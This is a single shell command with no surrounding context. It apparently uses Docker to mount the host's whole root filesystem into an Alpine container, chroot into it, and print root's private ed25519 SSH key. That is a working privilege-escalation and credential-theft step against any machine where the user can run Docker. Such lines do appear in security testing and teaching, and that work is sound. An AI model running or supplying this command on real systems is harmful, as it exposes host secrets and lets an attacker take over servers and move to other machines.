docker run --rm -v /:/host alpine chroot /host sh -c 'cat /root/.ssh/id_ed25519'
